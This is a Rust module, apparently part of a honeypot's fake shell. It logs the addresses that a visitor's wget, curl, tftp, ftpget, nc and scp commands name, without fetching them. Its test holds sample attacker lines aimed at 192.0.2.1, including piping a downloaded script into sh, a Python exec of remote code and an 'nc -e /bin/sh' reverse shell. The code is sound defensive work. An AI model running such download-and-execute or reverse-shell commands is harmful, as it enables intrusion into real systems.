//! What a visitor's commands would have fetched or sent: named, never done.

use super::Shell;

/// Most of them kept of one line.
const MOST: usize = 32;
/// Longest address.
const URL_MAX: usize = 2048;
/// Programs whose operand is an address even without a scheme.
const BARE: &[&str] = &["wget", "curl", "fetch", "lwp-download", "aria2c", "axel", "lynx", "links"];

/// Something to fetch or to talk to.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Fetch {
    /// The program.
    pub tool: String,
    /// Where.
    pub url: String,
}

/// Notes what a command names, whether the program is there or not.
pub(super) fn note(sh: &mut Shell, args: &[String]) {
    let args = match args {
        [first, rest @ ..] if base(first) == "busybox" => rest,
        all => all,
    };
    let Some(tool) = args.first().map(|first| base(first).to_owned()) else { return };
    let operands: Vec<&str> = args.iter().skip(1).map(String::as_str).collect();
    let mut found: Vec<String> = Vec::new();
    match tool.as_str() {
        // What they print or set is looked at where it is used.
        "echo" | "printf" | "export" | "alias" | "cat" | "grep" | "sed" | "awk" | "test" | "[" | "[[" => {
            return;
        }
        "tftp" => found.extend(tftp(&operands)),
        "ftpget" | "ftpput" => found.extend(ftp(&operands)),
        "nc" | "ncat" | "netcat" | "telnet" => found.extend(connect(&operands)),
        "scp" | "rsync" => {
            let remote = operands.iter().filter(|word| !word.starts_with('-') && word.contains(':'));
            found.extend(
                remote.map(
                    |word| if word.contains("://") { (*word).to_owned() } else { format!("scp://{word}") },
                ),
            );
        }
        name => {
            for word in &operands {
                addresses(word, &mut found);
            }
            if BARE.contains(&name) && found.is_empty() {
                let host = operands.iter().find(|word| !word.starts_with('-') && word.contains(['.', '/']));
                found.extend(host.map(|word| format!("http://{word}")));
            }
        }
    }
    for mut url in found {
        while url.len() > URL_MAX {
            url.pop();
        }
        let fetch = Fetch { tool: tool.clone(), url };
        if sh.fetched.len() < MOST && !sh.fetched.contains(&fetch) {
            sh.fetched.push(fetch);
        }
    }
}

fn base(path: &str) -> &str {
    path.rsplit('/').next().unwrap_or_default()
}

/// Addresses anywhere in a word: a script of another language is one word.
fn addresses(word: &str, found: &mut Vec<String>) {
    const SCHEMES: [&str; 5] = ["http://", "https://", "ftp://", "tftp://", "git://"];
    let mut rest = word;
    while let Some(at) = SCHEMES.iter().filter_map(|scheme| rest.find(scheme)).min() {
        let url = rest.get(at..).unwrap_or_default();
        let end = url.find(|c: char| c.is_whitespace() || "'\"`<>|;)".contains(c)).unwrap_or(url.len());
        let (url, tail) = url.split_at(end);
        found.push(url.to_owned());
        rest = tail;
    }
}

/// BusyBox's `tftp -g -r FILE HOST` and the old `tftp HOST -c get FILE`.
fn tftp(words: &[&str]) -> Option<String> {
    let after = |flag: &str| words.iter().position(|w| *w == flag).and_then(|at| words.get(at + 1));
    if after("-c").is_some() {
        let host = words.first()?;
        let file = words.iter().position(|w| matches!(*w, "get" | "put")).and_then(|at| words.get(at + 1))?;
        return Some(format!("tftp://{host}/{file}"));
    }
    let file = after("-r").or_else(|| after("-l")).copied().unwrap_or_default();
    let mut rest = words.iter().enumerate().filter(|(at, word)| {
        let value = at
            .checked_sub(1)
            .and_then(|before| words.get(before))
            .is_some_and(|w| matches!(*w, "-r" | "-l" | "-b"));
        !value && !word.starts_with('-')
    });
    rest.next().map(|(_, host)| format!("tftp://{host}/{file}"))
}

/// `ftpget [-u user] [-p password] HOST LOCAL REMOTE`.
fn ftp(words: &[&str]) -> Option<String> {
    let mut rest = Vec::new();
    let mut skip = false;
    for word in words {
        if std::mem::take(&mut skip) {
            continue;
        }
        match *word {
            "-u" | "-p" | "-P" => skip = true,
            flag if flag.starts_with('-') => {}
            word => rest.push(word),
        }
    }
    let host = rest.first()?;
    Some(format!("ftp://{host}/{}", rest.last().filter(|_| rest.len() > 1).copied().unwrap_or_default()))
}

/// `nc HOST PORT`.
fn connect(words: &[&str]) -> Option<String> {
    let mut rest = words.iter().filter(|word| !word.starts_with('-'));
    let (host, port) = (rest.next()?, rest.next()?);
    port.parse::<u16>().ok().map(|port| format!("tcp://{host}:{port}"))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::decoy::testing::persona;

    #[test]
    fn what_is_fetched_is_named_and_not_fetched() {
        for (line, found) in [
            ("wget http://192.0.2.1/a.sh -O- | sh", &["wget http://192.0.2.1/a.sh"][..]),
            (
                "cd /tmp; wget 192.0.2.1/x || curl -O 192.0.2.1/x",
                &["wget http://192.0.2.1/x", "curl http://192.0.2.1/x"],
            ),
            ("/bin/busybox tftp -g -l - -r bins.sh 192.0.2.1", &["tftp tftp://192.0.2.1/bins.sh"]),
            ("tftp 192.0.2.1 -c get tftp1.sh", &["tftp tftp://192.0.2.1/tftp1.sh"]),
            (
                "ftpget -v -u anonymous -p a -P 21 192.0.2.1 ftp1.sh ftp1.sh",
                &["ftpget ftp://192.0.2.1/ftp1.sh"],
            ),
            ("nc 192.0.2.1 4444 -e /bin/sh", &["nc tcp://192.0.2.1:4444"]),
            (
                "python3 -c 'import urllib.request as u;exec(u.urlopen(\"http://192.0.2.1/p\").read())'",
                &["python3 http://192.0.2.1/p"],
            ),
            ("bash -c 'wget http://192.0.2.1/a'", &["wget http://192.0.2.1/a"]),
            ("git clone https://example.org/x.git", &["git https://example.org/x.git"]),
            ("echo http://192.0.2.1/ && ls", &[]),
        ] {
            let mut sh = Shell::new(&persona(&["ssh"]), "root");
            let fetched = sh.exec(line.as_bytes()).fetched;
            let mut texts: Vec<_> = fetched.iter().map(|f| format!("{} {}", f.tool, f.url)).collect();
            texts.retain(|text| !text.starts_with("bash "));
            assert_eq!(texts, found, "{line}");
        }
    }
}
